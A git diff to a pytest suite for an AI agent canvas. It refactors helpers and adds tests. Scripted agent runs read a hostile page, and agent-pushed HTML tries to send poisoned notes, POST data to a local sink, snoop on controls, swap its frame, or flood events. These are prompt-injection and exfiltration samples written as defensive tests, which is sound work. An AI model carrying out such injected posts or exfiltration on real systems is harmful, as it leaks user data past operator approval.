@@ -27,6 +27,7 @@ import pytest
 
 from pincer.demo.model_server import ReceivedRequest, ScriptedCall, Turn
 from tests.canvas.conftest import STEP_TIMEOUT_S, CanvasServer, canvas_server
+from tests.canvas.test_canvas_browser import _page
 from tests.canvas.test_canvas_mcp_app import _HOST, _rpc
 
 pytestmark = pytest.mark.slow
@@ -112,21 +113,26 @@ def site() -> Iterator[Server]:
 @dataclass
 class Script:
     """One run's model: ("call", tool, args) is one turn's call; ("gate", event) holds the turn
-    until the test sets ``event`` (and tells ``at_gate``); the end is text."""
+    until the test sets ``event`` (and tells ``at_gate``; the model server answers one request
+    at a time, so only one run may stand at a gate); ("until", text, ...) calls ``canvas wait``
+    until every text shows up in what the model was sent; the end is text."""
 
     steps: list[tuple[Any, ...]]
     index: int = 0
     at_gate: threading.Event = field(default_factory=threading.Event)
 
     def __call__(self, request: ReceivedRequest) -> Turn:
+        sent = json.dumps(request.body.get("messages", []))
         while self.index < len(self.steps):
             step = self.steps[self.index]
+            if step[0] == "until" and not all(text in sent for text in step[1:]):
+                return Turn(calls=(ScriptedCall(name="canvas", arguments={"action": "wait", "timeout_s": STEP_TIMEOUT_S}),))
             self.index += 1
             if step[0] == "gate":
                 self.at_gate.set()
                 assert step[1].wait(STEP_TIMEOUT_S), "the test never opened the gate"
-                continue
-            return Turn(calls=(ScriptedCall(name=step[1], arguments=step[2]),))
+            if step[0] == "call":
+                return Turn(calls=(ScriptedCall(name=step[1], arguments=step[2]),))
         return Turn(text="done")
 
 
@@ -222,18 +228,6 @@ def _read(server: CanvasServer, run_id: str, text: str) -> list[str]:
     return [m["content"] for m in messages if text in json.dumps(m.get("content"))]
 
 
-def _page(browser: Any, server: CanvasServer, session: str = "main", token: str | None = None) -> tuple[Any, Any]:
-    """A browser signed in (with ``token``, the gateway's by default) on a canvas page."""
-    context = browser.new_context()
-    context.set_default_timeout(STEP_TIMEOUT_S * 1000)
-    page = context.new_page()
-    page.goto(f"{server.url}/ui/canvas/{session}")
-    page.fill("#token", token or server.token)
-    page.press("#token", "Enter")
-    page.wait_for_url(f"{server.url}/ui/canvas/{session}")
-    return context, page
-
-
 def _frame_with(page: Any, selector: str) -> Any:
     """The frame of the page that shows ``selector`` (one frame or several: found either way)."""
     from playwright.sync_api import Error
@@ -251,22 +245,26 @@ def _frame_with(page: Any, selector: str) -> Any:
 
 
 @contextmanager
+def _as(server: CanvasServer, token: str | None) -> Iterator[None]:
+    """The REST/MCP client speaks with ``token`` meanwhile (the gateway's when None)."""
+    saved = dict(server.client.headers)
+    if token:
+        server.client.headers["Authorization"] = f"Bearer {token}"
+    try:
+        yield
+    finally:
+        server.client.headers.clear()
+        server.client.headers.update(saved)
+
+
+@contextmanager
 def _mcp_host(browser: Any, server: CanvasServer, session: str = "main", token: str | None = None) -> Iterator[Callable[[], Any]]:
     """An MCP Apps host (Chromium, the ext-apps postMessage protocol) showing the canvas as the
     MCP server serves it; ``show()`` reads the resource again and shows it."""
-    headers = {"Authorization": f"Bearer {token}"} if token else None
 
     def call_tool(params: dict[str, Any]) -> dict[str, Any]:
-        body = {"name": params["name"], "arguments": params["arguments"]}
-        if headers:
-            saved = dict(server.client.headers)
-            server.client.headers.update(headers)
-            try:
-                return _rpc(server, "tools/call", body, name=params["name"])
-            finally:
-                server.client.headers.clear()
-                server.client.headers.update(saved)
-        return _rpc(server, "tools/call", body, name=params["name"])
+        with _as(server, token):
+            return _rpc(server, "tools/call", {"name": params["name"], "arguments": params["arguments"]}, name=params["name"])
 
     context = browser.new_context()
     context.set_default_timeout(STEP_TIMEOUT_S * 1000)
@@ -276,20 +274,29 @@ def _mcp_host(browser: Any, server: CanvasServer, session: str = "main", token: 
 
     def show() -> Any:
         uri = f"ui://pincer/canvas/{session}"
-        if headers:
-            saved = dict(server.client.headers)
-            server.client.headers.update(headers)
-        try:
+        with _as(server, token):
             (content,) = _rpc(server, "resources/read", {"uri": uri}, name=uri)["contents"]
-        finally:
-            if headers:
-                server.client.headers.clear()
-                server.client.headers.update(saved)
         page.evaluate("html => window.showApp(html)", content["text"])
         return page
 
     try:
         yield show
+    finally:
+        context.close()
+
+
+@contextmanager
+def _viewing(browser: Any, server: CanvasServer, where: str, session: str = "main", token: str | None = None) -> Iterator[tuple[Any, Callable[[], Any]]]:
+    """The canvas as someone sees it: ``where`` "mcp-app" in an MCP Apps host, else on the canvas
+    page signed in with ``token``. Yields the browser page and what shows a change (the host
+    reads the resource again; the page follows the canvas by itself)."""
+    if where == "mcp-app":
+        with _mcp_host(browser, server, session, token) as show:
+            yield show(), show
+        return
+    context, page = _page(browser, server, session=session, token=token)
+    try:
+        yield page, lambda: page
     finally:
         context.close()
 
@@ -319,6 +326,28 @@ TIMER_HTML = f"""<p>the notes</p>
 <script>setInterval(() => pincer.send("note", {{text: {json.dumps(POISON)}}}), 400);</script>"""
 
 
+def _reads_then_draws(site: Server, draw: tuple[Any, ...]) -> Script:
+    """Run A: reads the hostile page (so it is tainted), then draws."""
+    return Script(steps=[("call", "http", {"url": f"{site.url}/page"}), draw])
+
+
+def _draws_then_posts(messages: list[dict[str, Any]], sid: str, gate: threading.Event, sink: Server | None = None) -> Script:
+    """Run B: draws (``a2ui_push``'s output is trusted: it stays untainted), waits at the gate,
+    touches surface ``sid`` again (what arrived meanwhile is its next input), then POSTs to the
+    sink when given."""
+    post = [("call", "http", {"url": f"{sink.url}/collect", "method": "POST", "body": "the notes"})] if sink else []
+    return Script(steps=[("call", "a2ui_push", {"messages": messages}), ("gate", gate), ("call", "a2ui_push", {"messages": _touch(sid)}), *post])
+
+
+def _a_then_b(server: CanvasServer, b: Script) -> tuple[str, str]:
+    """Run A to its end, then run B to its gate."""
+    run_a = _start(server, "run-A: read the page and draw")
+    assert server.finished_run(run_a)["status"] == "done"
+    run_b = _start(server, "run-B: draw")
+    assert b.at_gate.wait(STEP_TIMEOUT_S)
+    return run_a, run_b
+
+
 # -- (a) a pushed script posts by itself: its events carry its author's trust ----------------
 
 
@@ -331,21 +360,11 @@ def test_a_tainted_runs_script_speaks_for_that_run_not_for_the_main_person_viewi
     viewer's session) and went to B, the run that drew last, as trusted input: B's POST ran
     without asking (failed at ``e["trusted"] is False``). Now each note is A's, untrusted and
     naming what tainted A, and B reads none of it."""
-    a = Script(steps=[("call", "http", {"url": f"{site.url}/page"}), ("call", "canvas", {"action": "push", "html": TIMER_HTML})])
+    a = _reads_then_draws(site, ("call", "canvas", {"action": "push", "html": TIMER_HTML}))
     gate = threading.Event()
-    b = Script(
-        steps=[
-            ("call", "a2ui_push", {"messages": _surface("b_form", "b_go")}),
-            ("gate", gate),
-            ("call", "a2ui_push", {"messages": _touch("b_form")}),
-            ("call", "http", {"url": f"{sink.url}/collect", "method": "POST", "body": "the notes"}),
-        ]
-    )
+    b = _draws_then_posts(_surface("b_form", "b_go"), "b_form", gate, sink)
     with canvas_server(tmp_path / "home", Models({"run-A": a, "run-B": b}), extra_config=_grants()) as server:
-        run_a = _start(server, "run-A: read the page and draw")
-        assert server.finished_run(run_a)["status"] == "done"
-        run_b = _start(server, "run-B: draw a form")
-        assert b.at_gate.wait(STEP_TIMEOUT_S)
+        run_a, run_b = _a_then_b(server, b)
         context, _ = _page(browser, server)
         try:
             _wait("three notes from the script", lambda: len([e for e in _canvas_events(server) if e["name"] == "note"]) >= 3)
@@ -368,14 +387,11 @@ def test_a_tainted_runs_script_in_an_mcp_app_host_reaches_only_that_run(browser:
     relays the script's ``pincer.send`` as ``canvas_event`` calls. Before the fix they went to
     run B, the run that drew last (failed at ``_read(server, run_b, ...) == []``); now they go
     to A, untrusted, naming what tainted A."""
-    a = Script(steps=[("call", "http", {"url": f"{site.url}/page"}), ("call", "canvas", {"action": "push", "html": TIMER_HTML})])
+    a = _reads_then_draws(site, ("call", "canvas", {"action": "push", "html": TIMER_HTML}))
     gate = threading.Event()
-    b = Script(steps=[("call", "a2ui_push", {"messages": _surface("b_form", "b_go")}), ("gate", gate), ("call", "a2ui_push", {"messages": _touch("b_form")})])
+    b = _draws_then_posts(_surface("b_form", "b_go"), "b_form", gate)
     with canvas_server(tmp_path / "home", Models({"run-A": a, "run-B": b}), extra_config=_grants()) as server:
-        run_a = _start(server, "run-A: read the page and draw")
-        assert server.finished_run(run_a)["status"] == "done"
-        run_b = _start(server, "run-B: draw a form")
-        assert b.at_gate.wait(STEP_TIMEOUT_S)
+        run_a, run_b = _a_then_b(server, b)
         with _mcp_host(browser, server) as show:
             page = show()
             _wait("three notes through the host", lambda: len([e for e in _canvas_events(server) if e["name"] == "note"]) >= 3, page)
@@ -394,21 +410,11 @@ def test_a_click_on_a_surface_a_tainted_run_drew_too_makes_the_next_post_ask(
     "operator_approves_the_post". Run B (untainted) updates that surface, so the click goes to
     B. Before the fix the click was trusted input for B and B's POST ran without asking (failed
     at ``posts == []``). Now the event carries A's taint: B is tainted and its POST asks."""
-    a = Script(steps=[("call", "http", {"url": f"{site.url}/page"}), ("call", "a2ui_push", {"messages": _surface("shared", "operator_approves_the_post", "OK")})])
+    a = _reads_then_draws(site, ("call", "a2ui_push", {"messages": _surface("shared", "operator_approves_the_post", "OK")}))
     gate = threading.Event()
-    b = Script(
-        steps=[
-            ("call", "a2ui_push", {"messages": _touch("shared")}),
-            ("gate", gate),
-            ("call", "a2ui_push", {"messages": _touch("shared")}),
-            ("call", "http", {"url": f"{sink.url}/collect", "method": "POST", "body": "the notes"}),
-        ]
-    )
+    b = _draws_then_posts(_touch("shared"), "shared", gate, sink)
     with canvas_server(tmp_path / "home", Models({"run-A": a, "run-B": b}), extra_config=_grants()) as server:
-        run_a = _start(server, "run-A: read the page and draw")
-        assert server.finished_run(run_a)["status"] == "done"
-        run_b = _start(server, "run-B: touch the form")
-        assert b.at_gate.wait(STEP_TIMEOUT_S)
+        _, run_b = _a_then_b(server, b)
         context, page = _page(browser, server)
         try:
             _frame_with(page, "button[data-component-id=shared_button]").click("button[data-component-id=shared_button]")
@@ -458,39 +464,37 @@ def test_a_non_main_sessions_script_gets_no_operator_input_when_main_opens_its_c
 
 
 def test_each_click_goes_to_the_run_that_drew_what_was_clicked(browser: Any, tmp_path: Path) -> None:
-    """Run A pushes HTML with a button and draws surface a_form; run B then draws surface b_form.
-    Before the fix every click went to B, the run that drew last (failed at ``run == run_a``)."""
-    gate_a, gate_b = threading.Event(), threading.Event()
-    html = """<button id="a_html" onclick="pincer.send('a_html_click', {})">A's HTML</button>"""
+    """Run A pushes HTML with a button and draws surface a_form; run B then draws surface b_form;
+    both wait for people. Before the fix every click went to B, the run that drew last, or to
+    whichever run's ``canvas wait`` came first (failed at ``runs[...] == run_a``)."""
+    # What each run waits for shows up only in events (the run's own arguments do not hold it).
+    html = """<button id="a_html" onclick="pincer.send('a_html_click', {mark: 'html-' + 'clicked'})">A's HTML</button>"""
     a = Script(
         steps=[
             ("call", "canvas", {"action": "push", "html": html}),
             ("call", "a2ui_push", {"messages": _surface("a_form", "a_go")}),
-            ("gate", gate_a),
-            ("call", "a2ui_push", {"messages": _touch("a_form")}),
+            ("until", "surface 'a_form'", "html-clicked"),
         ]
     )
-    b = Script(steps=[("call", "a2ui_push", {"messages": _surface("b_form", "b_go")}), ("gate", gate_b), ("call", "a2ui_push", {"messages": _touch("b_form")})])
+    b = Script(steps=[("call", "a2ui_push", {"messages": _surface("b_form", "b_go")}), ("until", "surface 'b_form'")])
     with canvas_server(tmp_path / "home", Models({"run-A": a, "run-B": b})) as server:
         run_a = _start(server, "run-A: draw")
-        assert a.at_gate.wait(STEP_TIMEOUT_S)
+        server.wait_for_state(lambda s: s["waiting"] and "a_form" in s["surfaces"])
         run_b = _start(server, "run-B: draw")
-        assert b.at_gate.wait(STEP_TIMEOUT_S)
+        server.wait_for_state(lambda s: "b_form" in s["surfaces"])
         context, page = _page(browser, server)
         try:
             for selector, name in (("button[data-component-id=a_form_button]", "a_go"), ("#a_html", "a_html_click"),
                                    ("button[data-component-id=b_form_button]", "b_go")):  # fmt: skip
                 _frame_with(page, selector).click(selector)
                 _wait(f"the click {name}", lambda name=name: any(e["name"] == name for e in _canvas_events(server)))
-            gate_a.set()
-            gate_b.set()
-            assert server.finished_run(run_a)["status"] == "done" and server.finished_run(run_b)["status"] == "done"
         finally:
             context.close()
         runs = {e["name"]: e.get("run") for e in _canvas_events(server)}
         assert runs["a_go"] == run_a and runs["a_html_click"] == run_a and runs["b_go"] == run_b, runs
-        assert _read(server, run_a, "a_go") and not _read(server, run_a, "b_go")
-        assert _read(server, run_b, "b_go") and not _read(server, run_b, "a_go") and not _read(server, run_b, "a_html_click")
+        assert server.finished_run(run_a)["status"] == "done" and server.finished_run(run_b)["status"] == "done"
+        assert not _read(server, run_a, "b_go")
+        assert not _read(server, run_b, "a_go") and not _read(server, run_b, "a_html_click")
 
 
 # -- (d) nothing shown reaches the network ----------------------------------------------------
@@ -537,26 +541,39 @@ def test_pushed_html_reaches_no_host_by_any_means(browser: Any, tmp_path: Path, 
             assert answer.status_code == 200, answer.text
 
         push("<p>ready</p>")
-        with _mcp_host(browser, server, session, token) as show:
-            if where == "mcp-app":
-                page = show()
-            else:
-                context, page = _page(browser, server, session=session, token=token)
+        with _viewing(browser, server, where, session, token) as (page, refresh):
             said: list[str] = []
             page.on("console", lambda message: said.append(message.text))
-            try:
-                for kind in ATTEMPTS:
-                    said.clear()
-                    push(_attempt_html(kind, sink))
-                    if where == "mcp-app":
-                        show()
-                    _wait(f"Chromium's answer to the {kind} attempt",
-                          lambda: sink.hits or any(f"127.0.0.1:{sink.port}" in text for text in said), page)  # fmt: skip
-                    assert sink.hits == [], (kind, sink.hits)
-            finally:
-                if where != "mcp-app":
-                    context.close()
+            for kind in ATTEMPTS:
+                said.clear()
+                push(_attempt_html(kind, sink))
+                refresh()
+                _wait(f"Chromium's answer to the {kind} attempt",
+                      lambda: sink.hits or any(f"127.0.0.1:{sink.port}" in text for text in said), page)  # fmt: skip
+                assert sink.hits == [], (kind, sink.hits)
         assert sink.hits == [], sink.hits
+
+
+SWAP_HTML = """<p>swap</p><script>
+setTimeout(() => { location.href = location.href + (location.search ? "&" : "?") + "again=1"; }, 200);
+</script>"""
+
+
+def test_a_frame_cannot_load_a_canvas_document_in_its_own_place(browser: Any, tmp_path: Path) -> None:
+    """Agent HTML navigates its own frame to a canvas frame URL (its own, which it can read):
+    had the gateway served it, a frame could show a document other than the one the page put
+    there, and the page would judge what it sends by the wrong rendering. Before the fix the
+    gateway served it (failed at ``"cannot open another canvas document" in ...``); now a
+    frame document is served only to the page that embeds it."""
+    with canvas_server(tmp_path / "home", Script(steps=[])) as server:
+        assert server.client.post("/api/v1/tools/canvas/call", json={"args": {"action": "push", "html": SWAP_HTML}}).status_code == 200
+        context, page = _page(browser, server)
+        try:
+            swapped = _wait("the frame to navigate itself", lambda: next((f for f in page.frames if "again=1" in f.url), None), page)
+            text = _wait("the frame's new document", lambda: swapped.evaluate("document.body ? document.body.innerText : ''"), page)
+        finally:
+            context.close()
+        assert "cannot open another canvas document" in text, text
 
 
 # -- (e) a navigated foreign page is nobody's voice -------------------------------------------
@@ -642,6 +659,10 @@ SNOOPED_SURFACE = [
 ]
 
 
+def _snoops(server: CanvasServer) -> list[dict[str, Any]]:
+    return [e for e in _canvas_events(server) if e["name"] == "snoop"]
+
+
 @pytest.mark.parametrize("where", ["page", "mcp-app"])
 def test_agent_html_neither_reads_nor_clicks_pincers_controls(browser: Any, tmp_path: Path, where: str) -> None:
     """Agent HTML looks every 300 ms for the text fields and buttons in its document and its
@@ -653,20 +674,35 @@ def test_agent_html_neither_reads_nor_clicks_pincers_controls(browser: Any, tmp_
         call = server.client.post
         assert call("/api/v1/tools/a2ui_push/call", json={"args": {"messages": SNOOPED_SURFACE}}).status_code == 200
         assert call("/api/v1/tools/canvas/call", json={"args": {"action": "push", "html": SNOOP_HTML}}).status_code == 200
-        with _mcp_host(browser, server) as show:
-            context = None
-            if where == "mcp-app":
-                page = show()
-            else:
-                context, page = _page(browser, server)
-            try:
-                _frame_with(page, "[data-a2ui-id=field] input").fill("[data-a2ui-id=field] input", typed)
-                ticks = lambda: [e for e in _canvas_events(server) if e["name"] == "snoop"]  # noqa: E731
-                after = len(ticks())
-                _wait("three snoops after the typing", lambda: len(ticks()) >= after + 3, page)
-            finally:
-                if context is not None:
-                    context.close()
+        with _viewing(browser, server, where) as (page, _):
+            _frame_with(page, "[data-a2ui-id=field] input").fill("[data-a2ui-id=field] input", typed)
+            after = len(_snoops(server))
+            _wait("three snoops after the typing", lambda: len(_snoops(server)) >= after + 3, page)
         events = _canvas_events(server)
         assert typed not in json.dumps(events), [e for e in events if typed in json.dumps(e)][:2]
         assert not [e for e in events if e["event"] == "a2ui_action"], "a script clicked pincer's button"
+
+
+# -- a script cannot use up a person's clicks --------------------------------------------------
+
+
+def test_a_script_flooding_the_canvas_cannot_use_up_a_persons_clicks(tmp_path: Path) -> None:
+    """Agent HTML sends as fast as the canvas takes events. Before the fix one budget of
+    ``MAX_EVENTS_PER_MINUTE`` served the canvas: once the script had spent it, a person's click
+    on a surface pincer drew was refused (failed at ``click.status_code == 202``)."""
+    from pincer.canvas.board import MAX_EVENTS_PER_MINUTE
+
+    with canvas_server(tmp_path / "home", Script(steps=[])) as server:
+        call = server.client.post
+        assert call("/api/v1/tools/canvas/call", json={"args": {"action": "push", "html": "<p>flood</p>"}}).status_code == 200
+        assert call("/api/v1/tools/a2ui_push/call", json={"args": {"messages": _surface("s", "go")}}).status_code == 200
+        page = server.ui.get("/ui/canvas/main").text
+        csrf = {"X-CSRF-Token": page.split('const csrf = "')[1].split('"')[0]}
+        state = server.state()
+        flood = {"frame": "html", "render": state.get("html_render"), "name": "flood", "data": {}}
+        answers = [server.ui.post("/ui/canvas/main/events", headers=csrf, json=flood).status_code for _ in range(MAX_EVENTS_PER_MINUTE + 1)]
+        assert answers[:MAX_EVENTS_PER_MINUTE] == [202] * MAX_EVENTS_PER_MINUTE and answers[-1] == 429, answers[-3:]
+        message = {"userAction": {"name": "go", "surfaceId": "s", "sourceComponentId": "s_button"}}
+        body = {"frame": "a2ui", "render": state.get("a2ui_render"), "name": "a2ui_action", "data": {"name": "go", "surfaceId": "s", "message": message}}
+        click = server.ui.post("/ui/canvas/main/events", headers=csrf, json=body)
+        assert click.status_code == 202, click.text
